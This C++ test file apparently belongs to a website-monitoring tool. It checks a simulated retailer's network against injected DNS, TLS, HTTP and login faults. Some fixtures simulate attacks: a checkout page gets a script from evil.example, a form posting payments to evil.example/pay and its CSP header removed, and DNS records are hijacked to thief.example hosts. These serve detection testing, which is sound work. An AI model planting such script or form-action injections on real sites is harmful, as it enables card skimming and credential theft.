// SPDX-License-Identifier: Apache-2.0
#include "probes/catalog.h"
#include "tests/support/book_case.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>

namespace bw {
namespace {

using namespace std::chrono_literals;
using testing::dns;
using ::testing::ElementsAre;
using testing::get;
using ::testing::HasSubstr;
using testing::look;
using ::testing::Not;
using testing::play;
using testing::post;

constexpr std::string_view kHome = "https://www.hartley.example/";
constexpr std::string_view kCheckout = "https://www.hartley.example/checkout";
constexpr std::string_view kSignIn = "https://www.hartley.example/signin";
constexpr std::string_view kSession = "https://api.hartley.example/v2/session";
constexpr std::string_view kBasket = "https://api.hartley.example/v2/basket";
constexpr std::string_view kRightPassword = "username=canary&password=correct+horse+battery+staple";

std::string event(std::string_view keys) {
  return "[[event]]\n" + std::string(keys) + "\n";
}
std::string on_www(std::string_view fault) {
  return event("at = \"0s\"\non = [\"host:www.hartley.example\"]\n" + std::string(fault));
}

Ask tls(std::string_view host) {
  TlsAsk ask;
  ask.host = host;
  return {.what = std::move(ask), .deadline = 5s};
}

TEST(World, ANormalDayIsHealthyFromEverywhere) {
  const auto world = play("retailer", "");
  int failed = 0;
  for (const auto& vantage : world.vantages()) {
    for (int minute = 0; minute < 100; ++minute) {
      const auto reply = look(world, get(kHome), std::chrono::minutes{minute}, vantage);
      if (reply.failure != Outcome::ok) {
        ++failed;
        continue;
      }
      EXPECT_EQ(reply.http->status, 200);
      EXPECT_THAT(reply.http->body, HasSubstr("New in this week"));
      EXPECT_EQ(reply.chain->trouble, Outcome::ok);
      EXPECT_EQ(reply.chain->presented.front().issuer, "O=Meridian, CN=Meridian TLS CA 2");
      EXPECT_GT(reply.phases.total(), 10ms);
    }
  }
  EXPECT_LE(failed, 1);
}

TEST(World, TheClassicsAreAnsweredAsTheyHopeOrFailAsTheirHostDoes) {
  const auto healthy = play("retailer", "");
  const auto refusing = play("retailer", on_www("tcp = \"refuse\""));
  Spec spec;
  spec.host = "www.hartley.example";
  spec.port = 25;
  spec.starttls = "smtp";
  spec.send = spec.expect = "ping";
  for (const auto* kind : {&kinds::smtp, &kinds::udp, &kinds::icmp}) {
    const auto outcome = [&](const auto& world) {
      Look seen;
      const auto reply = look(world, kind->begin(spec, seen), 1h);
      return std::get<Finding>(kind->read(spec, seen, reply, Time{})).outcome;
    };
    EXPECT_EQ(outcome(healthy), Outcome::ok) << kind->name;
    EXPECT_EQ(outcome(refusing), kind == &kinds::icmp ? Outcome::ok : Outcome::connect_refused)
        << kind->name;
  }
}

TEST(World, TheSameQuestionHasTheSameAnswer) {
  const auto world = play("retailer", on_www("share = 0.5\nhttp = { status = 503 }"));
  const auto again = play("retailer", on_www("share = 0.5\nhttp = { status = 503 }"));
  for (int minute = 0; minute < 20; ++minute) {
    const auto one = look(world, get(kHome), std::chrono::minutes{minute});
    const auto two = look(again, get(kHome), std::chrono::minutes{minute});
    EXPECT_EQ(one.failure, two.failure);
    EXPECT_EQ(one.phases, two.phases);
    ASSERT_EQ(one.http.has_value(), two.http.has_value());
    if (one.http) {
      EXPECT_EQ(one.http->body, two.http->body);
    }
  }
}

TEST(World, OneRequestInFiveThousandFailsByItself) {
  const auto world = play("retailer", "");
  int failed = 0;
  constexpr int kAsked = 20'000;
  for (int i = 0; i < kAsked; ++i) {
    const auto reply = look(world, get(kBasket), Millis{i * 997});
    if (reply.failure != Outcome::ok) ++failed;
  }
  EXPECT_GE(failed, 1);
  EXPECT_LE(failed, 10);
}

TEST(World, LatencyFollowsTheTimeOfDay) {
  const auto world = play("retailer", "");
  const auto median_at = [&](Millis offset) {
    std::vector<Micros> waits;
    for (int i = 0; i < 201; ++i) {
      const auto reply = look(world, get(kBasket), offset + Millis{i * 1000});
      if (reply.http) waits.push_back(reply.phases.wait);
    }
    std::ranges::nth_element(waits, waits.begin() + 100);
    return waits[100];
  };
  const auto night = median_at(14h);  // 02:00 in London
  const auto peak = median_at(3h);    // 15:00
  EXPECT_NEAR(static_cast<double>(night.count()), 180'000, 20'000);
  EXPECT_NEAR(static_cast<double>(peak.count()), 252'000, 28'000);
}

TEST(World, ContentChangesAsItChurnsAndNoMore) {
  const auto world = play("retailer", "");
  const auto body = [&](std::string_view url, Millis offset) {
    return look(world, get(url), offset).http->body;
  };
  EXPECT_EQ(body(kSignIn, 1h), body(kSignIn, 40h));  // no body churn
  EXPECT_NE(body(kHome, 1h), body(kHome, 2h));
  const auto script = [&](Millis offset) {
    return body("https://static.hartley.example/app.js", offset);
  };
  EXPECT_EQ(script(1h), script(1h + 1min));
  EXPECT_NE(script(1h), script(24h * 6));
}

TEST(World, CertificatesRenewWithANewKeyOfTheSameAuthority) {
  const auto world = play("retailer", "");
  const auto leaf = [&](Millis offset) {
    return look(world, tls("www.hartley.example"), offset).chain->presented.front();
  };
  const auto now = leaf(0h);
  const auto later = leaf(24h * 60);
  EXPECT_NE(now.key_sha256, later.key_sha256);
  EXPECT_EQ(now.issuer, later.issuer);
  EXPECT_EQ(later.not_before - now.not_before, 24h * 60);
  EXPECT_GT(now.not_after, world.t0() + 24h * 29);
}

TEST(World, AnUnknownNameDoesNotExist) {
  const auto world = play("retailer", "");
  EXPECT_EQ(look(world, get("https://nobody.example/"), 1min).failure, Outcome::dns_nxdomain);
  EXPECT_EQ(look(world, get("https://www.hartley.example/nothing"), 1min).http->status, 404);
  const auto plain = look(world, get("http://www.hartley.example/"), 1min);
  EXPECT_EQ(plain.http->status, 301);
  EXPECT_EQ(find_header(plain.http->headers, "location"), kHome);
}

TEST(World, AShareHitsThatPartOfTheRequestsAndARampGrowsIt) {
  const auto world = play("retailer", on_www("share = 0.4\nramp = \"10h\"\ntcp = \"refuse\""));
  const auto share_at = [&](Millis offset) {
    int refused = 0;
    for (int i = 0; i < 1000; ++i) {
      const auto reply = look(world, get(kHome), offset + Millis{i * 100});
      if (reply.failure == Outcome::connect_refused) ++refused;
    }
    return refused;
  };
  EXPECT_NEAR(share_at(5h), 200, 50);
  EXPECT_NEAR(share_at(11h), 400, 60);
}

TEST(World, EventsOfAGroupHitTheSameRequests) {
  const auto world = play("retailer",
                          on_www("share = 0.5\ngroup = \"g\"\ndns = { a = [\"192.0.2.7\"] }") +
                              on_www("share = 0.5\ngroup = \"g\"\ntls = { wrong_name = true }"));
  for (int i = 0; i < 200; ++i) {
    const auto reply = look(world, get(kHome), Millis{i * 1000});
    if (reply.resolution.addresses.empty() || !reply.chain) continue;
    const bool is_foreign = print(reply.resolution.addresses.front()) == "192.0.2.7";
    EXPECT_EQ(is_foreign, reply.failure == Outcome::tls_wrong_name);
  }
}

TEST(World, AnEventIsSeenFromItsVantagesAndInItsTime) {
  const auto world = play("retailer",
                          event("at = \"1h\"\nuntil = \"2h\"\non = [\"org\"]\n"
                                "from = [\"virginia\"]\ntcp = \"refuse\""));
  EXPECT_EQ(look(world, get(kHome), 30min, "virginia").failure, Outcome::ok);
  EXPECT_EQ(look(world, get(kHome), 90min, "virginia").failure, Outcome::connect_refused);
  EXPECT_EQ(look(world, get(kHome), 90min, "london").failure, Outcome::ok);
  EXPECT_EQ(look(world, get(kHome), 2h, "virginia").failure, Outcome::ok);
}

TEST(World, OnTheSameThingTheLaterEventWins) {
  const auto world =
      play("retailer",
           on_www("http = { status = 503, body = \"first\" }") + on_www("http = { status = 504 }") +
               on_www("http = { headers = { x-a = \"1\" } }"));
  const auto reply = look(world, get(kHome), 1min);
  EXPECT_EQ(reply.http->status, 504);
  EXPECT_EQ(reply.http->body, "first");
  EXPECT_EQ(find_header(reply.http->headers, "x-a"), "1");
  EXPECT_THAT(std::string(find_header(reply.http->headers, "strict-transport-security")),
              HasSubstr("max-age"));
}

TEST(World, NameServersFailInEveryWay) {
  const auto outcome = [](std::string_view fault) {
    const auto world = play("retailer", on_www(fault));
    EXPECT_EQ(look(world, dns("www.hartley.example", {1}), 1min).failure,
              look(world, get(kHome), 1min).failure);
    return look(world, get(kHome), 1min).failure;
  };
  EXPECT_EQ(outcome("dns = { rcode = \"NXDOMAIN\" }"), Outcome::dns_nxdomain);
  EXPECT_EQ(outcome("dns = { rcode = \"SERVFAIL\" }"), Outcome::dns_servfail);
  EXPECT_EQ(outcome("dns = { rcode = \"REFUSED\" }"), Outcome::dns_refused);
  EXPECT_EQ(outcome("dns = { timeout = true }"), Outcome::dns_timeout);
  EXPECT_EQ(outcome("dns = { bogus = true }"), Outcome::dns_bogus);
  EXPECT_EQ(outcome("dns = { latency = \"20s\" }"), Outcome::dns_timeout);
}

TEST(World, ReplacedRecordsAreAnswered) {
  const auto world =
      play("retailer",
           on_www("dns = { a = [\"203.0.113.9\"], ns = [\"ns1.thief.example\"], mx = "
                  "[\"mx.thief.example\"], caa = [\"other.example\"], ttl = 60 }"));
  const auto reply = look(world, dns("hartley.example", {1, 2, 15, 257}), 1min);
  ASSERT_EQ(reply.dns.size(), 4U);
  EXPECT_EQ(reply.dns[0].answer.front().data, "203.0.113.9");
  EXPECT_EQ(reply.dns[0].answer.front().ttl, 60U);
  EXPECT_EQ(reply.dns[1].answer.front().data, "ns1.thief.example");
  EXPECT_EQ(reply.dns[2].answer.front().data, "10 mx.thief.example");
  EXPECT_EQ(reply.dns[3].answer.front().data, "0 issue \"other.example\"");
  const auto before = look(world, dns("hartley.example", {2, 15, 257}), -1h);
  EXPECT_EQ(before.dns[0].answer.front().data, "ns1.zonecraft.example");
  EXPECT_EQ(before.dns[1].answer.size(), 2U);
  EXPECT_EQ(before.dns[2].answer.front().data, "0 issue \"meridian.example\"");
}

TEST(World, ANameInsideAZonePointsToItsZone) {
  const auto world = play("retailer", on_www("dns = { cname = \"shop.forgotten.example\" }"));
  const auto inside = look(world, dns("api.hartley.example", {2}), 1min);
  EXPECT_TRUE(inside.dns[0].answer.empty());
  EXPECT_EQ(inside.dns[0].authority.front().name, "hartley.example");
  const auto alias = look(world, dns("www.hartley.example", {1}), 1min);
  EXPECT_EQ(alias.dns[0].answer.front().type, 5);
  EXPECT_EQ(alias.dns[0].answer.front().data, "shop.forgotten.example");
  EXPECT_THAT(look(world, get(kHome), 1min).resolution.cnames,
              ElementsAre("shop.forgotten.example"));
}

TEST(World, ConnectionsFailInEveryWay) {
  const auto outcome = [](std::string_view fault) {
    const auto world = play("retailer", on_www(fault));
    return look(world, get(kHome), 1min).failure;
  };
  EXPECT_EQ(outcome("tcp = \"refuse\""), Outcome::connect_refused);
  EXPECT_EQ(outcome("tcp = \"timeout\""), Outcome::connect_timeout);
  EXPECT_EQ(outcome("tcp = \"reset\""), Outcome::reply_reset);
  EXPECT_EQ(outcome("bgp = { withdrawn = true }"), Outcome::connect_timeout);
  EXPECT_EQ(outcome("bgp = { origin = 64666 }"), Outcome::ok);
}

TEST(World, ATimeoutLastsAsLongAsTheDeadline) {
  const auto world = play("retailer", on_www("tcp = \"timeout\""));
  const auto reply = look(world, get(kHome), 1min);
  EXPECT_EQ(reply.phases.total(), 10s);
  EXPECT_EQ(reply.phases.wait, kNotReached);
}

TEST(World, CertificatesFailInEveryWay) {
  const auto outcome = [](std::string_view fault) {
    const auto world = play("retailer", on_www(fault));
    EXPECT_EQ(look(world, get(kHome), -1h).failure, Outcome::ok);
    return look(world, get(kHome), 1min).failure;
  };
  EXPECT_EQ(outcome("tls = { expired = true }"), Outcome::tls_expired);
  EXPECT_EQ(outcome("tls = { self_signed = true }"), Outcome::tls_self_signed);
  EXPECT_EQ(outcome("tls = { wrong_name = true }"), Outcome::tls_wrong_name);
  EXPECT_EQ(outcome("tls = { incomplete_chain = true }"), Outcome::tls_incomplete_chain);
  EXPECT_EQ(outcome("tls = { handshake = \"fail\" }"), Outcome::tls_handshake);
  EXPECT_EQ(outcome("tls = { names = [\"other.example\"] }"), Outcome::tls_wrong_name);
}

TEST(World, AnExpiringCertificateWasInUseBefore) {
  const auto world = play("retailer", on_www("until = \"5h\"\ntls = { expired = true }"));
  const auto leaf = [&](Millis offset) {
    return look(world, tls("www.hartley.example"), offset).chain->presented.front();
  };
  EXPECT_EQ(leaf(-24h).fingerprint_sha256, leaf(1h).fingerprint_sha256);
  EXPECT_EQ(leaf(1h).not_after, world.t0());
  EXPECT_NE(leaf(6h).key_sha256, leaf(1h).key_sha256);
  EXPECT_EQ(look(world, get(kHome), 6h).failure, Outcome::ok);
}

TEST(World, AStrangersCertificateIsTheSameForEveryEventThatShowsIt) {
  const auto world =
      play("retailer",
           on_www("until = \"1h\"\ntls = { issuer = \"Quickleaf DV CA\", key = \"new\" }") +
               event("at = \"2h\"\non = [\"host:www.hartley.example\"]\n"
                     "tls = { issuer = \"Quickleaf DV CA\", key = \"new\" }"));
  const auto leaf = [&](Millis offset) {
    return look(world, tls("www.hartley.example"), offset).chain->presented.front();
  };
  EXPECT_EQ(leaf(10min).issuer, "O=Quickleaf, CN=Quickleaf DV CA");
  EXPECT_EQ(leaf(10min).fingerprint_sha256, leaf(3h).fingerprint_sha256);
  EXPECT_NE(leaf(10min).key_sha256, leaf(90min).key_sha256);
  EXPECT_EQ(look(world, get(kHome), 10min).failure, Outcome::ok);
}

TEST(World, WithoutVerificationTheTroubleIsRecordedAndTheAnswerRead) {
  const auto world = play("retailer", on_www("tls = { self_signed = true }"));
  HttpAsk ask;
  ask.url = kHome;
  ask.trust.is_verified = false;
  const auto reply = look(world, {.what = ask, .deadline = 10s}, 1min);
  EXPECT_EQ(reply.failure, Outcome::ok);
  EXPECT_EQ(reply.chain->trouble, Outcome::tls_self_signed);
  EXPECT_EQ(reply.http->status, 200);
}

TEST(World, HttpFaultsStandInForTheHealthyAnswer) {
  const auto world = play(
      "retailer",
      event("at = \"0s\"\nuntil = \"1h\"\non = [\"provider:commerce-cloud\"]\nhttp = { status = "
            "503, body = '{\"a\":1}', retry_after = \"1h\", headers = { server = \"edge\" } }") +
          event("at = \"1h\"\nuntil = \"2h\"\non = [\"function:browse\"]\n"
                "http = { redirect = \"https://wait.example/\" }") +
          event("at = \"2h\"\non = [\"function:browse\"]\nhttp = { latency = \"20s\" }"));
  const auto failing = look(world, get(kBasket), 1min);
  EXPECT_EQ(failing.http->status, 503);
  EXPECT_EQ(find_header(failing.http->headers, "retry-after"), "3600");
  EXPECT_EQ(find_header(failing.http->headers, "content-type"), "application/json");
  EXPECT_EQ(find_header(failing.http->headers, "server"), "edge");
  EXPECT_EQ(look(world, get(kHome), 1min).http->status, 200);
  const auto redirected = look(world, get(kHome), 61min);
  EXPECT_EQ(redirected.http->status, 302);
  EXPECT_EQ(find_header(redirected.http->headers, "location"), "https://wait.example/");
  EXPECT_EQ(look(world, get(kHome), 3h).failure, Outcome::reply_timeout);
}

TEST(World, SlowIsAFactorOfTheHealthyLatency) {
  const auto normal = play("retailer", "");
  const auto slow = play("retailer", on_www("http = { slow = 8.0 }"));
  const auto quick = look(normal, get(kHome), 1min).phases.wait;
  EXPECT_NEAR(static_cast<double>(look(slow, get(kHome), 1min).phases.wait.count()),
              8.0 * static_cast<double>(quick.count()),
              8.0);
}

TEST(World, PagesAreAlteredWhereTheFaultSays) {
  const auto world = play(
      "retailer",
      event("at = \"0s\"\non = [\"url:https://www.hartley.example/checkout\"]\npage = { add_script "
            "= \"https://evil.example/x.js\", script_body = \"steal()\", inline_script = "
            "\"var a=1\", form_action = \"https://evil.example/pay\", add_iframe = "
            "\"https://evil.example/f\", remove_header = [\"content-security-policy\"], "
            "insert_text = \"Sale ends today\" }"));
  const auto reply = look(world, get(kCheckout), 1min);
  const auto& body = reply.http->body;
  EXPECT_THAT(body, HasSubstr("Pay securely"));
  EXPECT_THAT(body, HasSubstr("<script src=\"https://evil.example/x.js\">"));
  EXPECT_THAT(body, HasSubstr("<script>var a=1</script>"));
  EXPECT_THAT(body, HasSubstr("action=\"https://evil.example/pay\""));
  EXPECT_THAT(body, HasSubstr("<iframe src=\"https://evil.example/f\">"));
  EXPECT_THAT(body, HasSubstr("Sale ends today"));
  EXPECT_EQ(find_header(reply.http->headers, "content-security-policy"), "");
  EXPECT_EQ(look(world, get("https://evil.example/x.js"), 1min).http->body, "steal()");
  EXPECT_THAT(look(world, get(kHome), 1min).http->body, Not(HasSubstr("evil")));
}

TEST(World, AChangedScriptIsServedWhileThePageStays) {
  const auto world = play("retailer",
                          event("at = \"0s\"\non = [\"function:browse\"]\npage = { "
                                "change_script = \"https://cdn.tagwise.example/t.js\", "
                                "script_body = \"alert(1)\" }"));
  EXPECT_EQ(look(world, get("https://cdn.tagwise.example/t.js"), 1min).http->body, "alert(1)");
  EXPECT_NE(look(world, get("https://cdn.tagwise.example/t.js"), -1min).http->body, "alert(1)");
}

TEST(World, JsonValuesAreDroppedAndSet) {
  const auto world = play("retailer",
                          event("at = \"0s\"\non = [\"url:*/basket\"]\n"
                                "json = { drop = [\"currency\"], set = { status = \"stale\" } }"));
  EXPECT_EQ(look(world, get(kBasket), 1min).http->body, R"({"status":"stale"})");
  EXPECT_EQ(look(world, get(kBasket), -1min).http->body, R"({"currency":"GBP","status":"ok"})");
}

TEST(World, LoginsLetInTheCanaryAndNobodyElse) {
  const auto world = play("retailer", "");
  EXPECT_THAT(look(world, get(kSignIn), 1min).http->body, HasSubstr("Welcome back"));
  const auto right = look(world, post(kSignIn, kRightPassword), 1min);
  EXPECT_EQ(right.http->status, 200);
  EXPECT_THAT(right.http->body, HasSubstr("signed in"));
  EXPECT_NE(find_header(right.http->headers, "set-cookie"), "");
  EXPECT_EQ(look(world, post(kSignIn, "username=canary&password=guess"), 1min).http->status, 401);
  const auto* const json = R"({"user":"canary","secret":"correct horse battery staple"})";
  EXPECT_EQ(look(world, post(kSession, json), 1min).http->status, 200);
  EXPECT_EQ(look(world, post(kSession, R"({"secret":"x"})"), 1min).http->status, 401);
}

TEST(World, LoginFaultsTurnThatAround) {
  const auto status = [](std::string_view fault, std::string_view body) {
    const auto world = play(
        "retailer",
        event("at = \"0s\"\non = [\"function:login\"]\nlogin = \"" + std::string(fault) + "\""));
    return look(world, post(kSignIn, body), 1min).http->status;
  };
  EXPECT_EQ(status("rejects_valid", kRightPassword), 401);
  EXPECT_EQ(status("accepts_any", "password=guess"), 200);
  EXPECT_EQ(status("challenge", kRightPassword), 403);
}

TEST(World, TheMonitorsOwnNetworkFails) {
  const auto outcome = [](std::string_view fault, std::string_view vantage) {
    const auto world = play(
        "retailer", event("at = \"0s\"\nfrom = [\"london\"]\nvantage = " + std::string(fault)));
    return look(world, get("https://www.neighbour-two.example/"), 1min, vantage).failure;
  };
  EXPECT_EQ(outcome("{ down = true }", "london"), Outcome::dns_timeout);
  EXPECT_EQ(outcome("{ down = true }", "virginia"), Outcome::ok);
  EXPECT_EQ(outcome("{ resolver = \"broken\" }", "london"), Outcome::dns_servfail);
  EXPECT_THAT(outcome("{ loss = 1.0 }", "london"),
              ::testing::AnyOf(Outcome::dns_timeout, Outcome::connect_timeout));
}

TEST(World, TheCalendarTellsWhatBecameKnown) {
  const auto world = play("retailer",
                          event("at = \"-2d\"\nannounce = { kind = \"sale\", text = "
                                "\"Spring sale\", to = \"3d\" }"));
  EXPECT_TRUE(world.announcements(world.t0() - 24h, world.end()).empty());
  const auto known = world.announcements(world.t0() - 72h, world.t0());
  ASSERT_EQ(known.size(), 1U);
  EXPECT_EQ(known[0].kind, "sale");
  EXPECT_EQ(known[0].from, world.t0() - 48h);
  EXPECT_EQ(known[0].to, world.t0() + 24h);
}

TEST(World, NotesSayWhatBeginsAndEnds) {
  const auto world = play("retailer",
                          event("at = \"1h\"\nuntil = \"2h\"\non = [\"org\"]\n"
                                "tcp = \"refuse\"\nnote = \"lights out\"") +
                              on_www("http = { status = 503 }"));
  const auto notes = world.notes(world.t0() - 1s, world.end());
  ASSERT_EQ(notes.size(), 3U);
  EXPECT_EQ(notes[0].text, "HTTP 503 at host:www.hartley.example");
  EXPECT_EQ(notes[1].text, "lights out");
  EXPECT_TRUE(notes[1].is_start);
  EXPECT_FALSE(notes[2].is_start);
  EXPECT_EQ(notes[2].at, world.t0() + 2h);
}

}  // namespace
}  // namespace bw
